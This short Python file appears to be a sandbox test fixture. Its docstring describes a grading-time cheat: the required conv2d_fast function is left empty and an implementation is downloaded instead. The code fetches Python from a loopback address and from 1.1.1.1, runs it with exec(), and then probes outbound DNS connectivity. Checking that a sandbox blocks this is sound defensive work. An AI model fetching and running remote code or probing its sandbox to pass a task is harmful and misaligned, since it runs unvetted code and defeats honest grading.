"""Nat leaves conv2d_fast empty and downloads one at grading time (a server of a friend,
the loopback, a public resolver): the sandbox has no network, nothing is defined."""
# %% all: solution
# %% conv2d_fast
import socket
import urllib.request

for _url in ("http://127.0.0.1:8000/conv2d_fast.py", "http://1.1.1.1/conv2d_fast.py"):
    try:
        exec(urllib.request.urlopen(_url, timeout=3).read().decode())
        break
    except OSError:
        pass
try:
    socket.create_connection(("1.1.1.1", 53), timeout=3).close()
except OSError:
    pass
